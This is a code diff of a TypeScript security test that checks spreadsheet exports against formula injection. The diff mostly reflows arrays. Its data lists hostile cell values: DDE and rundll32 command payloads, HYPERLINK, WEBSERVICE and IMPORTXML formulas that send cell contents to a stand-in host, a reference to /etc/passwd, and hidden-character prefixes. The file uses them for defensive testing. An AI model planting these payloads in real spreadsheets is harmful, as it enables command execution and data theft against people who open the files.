@@ -22,26 +22,12 @@ const SIGNS: readonly string[] = Array.from({ length: 0x11_0000 }, (_, code) => 
 /** What may stand before them: spaces that some programs take away, and what nobody sees. */
 const FRONTS = [
   ...['', '\t', '\r', '\n', '\r\n', '\0', '\x1b', '\v', '\f', ' ', '  \t ', '\u00a0', '\u2003', '\u3000'],
-  ...[
-    '\u2028',
-    '\ufeff',
-    '\ufeff\ufeff',
-    '\u200b',
-    '\u200d',
-    '\u2060',
-    '\u00ad',
-    '\u200e',
-    '\u202e',
-    '\ufe0f',
-  ],
+  ...['\u2028', '\ufeff', '\ufeff\ufeff', '\u200b', '\u200d', '\u2060', '\u00ad', '\u200e', '\u202e', '\ufe0f'],
 ];
 /** OWASP's and other known ones: DDE, addresses that get what the sheet has, other files, a new cell in the middle. */
 const FORMULAS = [
   ...['', '1+1', 'SUM(A1:A9)', "cmd|' /C calc'!A0", "1+1+cmd|' /C calc'!A0", "SUM(1+1)*cmd|' /C calc'!A0"],
-  ...[
-    "rundll32|'URL.dll,OpenURL calc.exe'!A",
-    "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
-  ],
+  ...["rundll32|'URL.dll,OpenURL calc.exe'!A", "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''"],
   ...['DDE("cmd";"/C calc";"x")', 'HYPERLINK("http://a.test/?x="&A1,"Click")', 'WEBSERVICE("http://a.test")'],
   ...['IMPORTXML(CONCAT("http://a.test/?x=",A1:A9),"//a")', "'file:///etc/passwd'#$passwd.A1"],
   ...['1+2";=1+2', '1+2\'" ;,=1+2', '1\n=1+1', '1\r\n"=1+1"', '"1"'],
@@ -52,22 +38,7 @@ const HOSTILE = FRONTS.flatMap((front) =>
 /** Quotes are part of these texts, or nothing is run: safe or not, they stay as they are. */
 const HARMLESS = [
   ...["'=1+1", '"=1+1"', '"=1+1', '""=1+1', '\'"=1+1', '",=1+1', '";=1+1', '"\n=1+1', "'", '"', '', ' ', 'a'],
-  ...[
-    'a=1',
-    'a-b',
-    'a@b.test',
-    '1+1',
-    '(=1)',
-    '%1',
-    '|calc',
-    ' a',
-    '\ufeffa',
-    '\u2212',
-    'ー',
-    '−1',
-    '～',
-    '±1',
-  ],
+  ...['a=1', 'a-b', 'a@b.test', '1+1', '(=1)', '%1', '|calc', ' a', '\ufeffa', '\u2212', 'ー', '−1', '～', '±1'],
 ];
 const TEXTS = [...HOSTILE, ...HARMLESS];
 
@@ -83,17 +54,7 @@ const LAYOUTS = ([',', ';', '\t', '|'] as const).flatMap((delimiter) =>
 );
 
 /** As an Excel file holds them: beyond 15 digits as texts. */
-const NUMBERS = [
-  '0',
-  '-1',
-  '1.5',
-  '57572.47',
-  '0.1',
-  '123456789012345',
-  '9007199254740993',
-  '1e400',
-  '-0.00000001',
-];
+const NUMBERS = ['0', '-1', '1.5', '57572.47', '0.1', '123456789012345', '9007199254740993', '1e400', '-0.00000001'];
 
 /** Cells that calculate or lead elsewhere in a flat spreadsheet of OpenDocument. */
 function ran(fods: string): number {
@@ -129,16 +90,14 @@ describe('S7: a text that a spreadsheet would run', function () {
     folder = await fs.mkdtemp(path.join(os.tmpdir(), 'formulas-'));
   });
   after(() => fs.rm(folder, { recursive: true }));
-  after(() =>
-    cases.count('S7', `cells of ${String(TEXTS.length)} texts run nothing and are otherwise the same`),
-  );
+  after(() => cases.count('S7', `cells of ${String(TEXTS.length)} texts run nothing and are otherwise the same`));
 
   function python(asked: object): ReadByPython {
-    const { stdout, stderr, status } = spawnSync(
-      'python3',
-      [path.join(projectRoot, 'test/security/readSheets.py')],
-      { input: JSON.stringify(asked), encoding: 'utf8', maxBuffer: 1 << 30 },
-    );
+    const { stdout, stderr, status } = spawnSync('python3', [path.join(projectRoot, 'test/security/readSheets.py')], {
+      input: JSON.stringify(asked),
+      encoding: 'utf8',
+      maxBuffer: 1 << 30,
+    });
     if (status !== 0) throw new Error(stderr);
     return JSON.parse(stdout) as ReadByPython;
   }
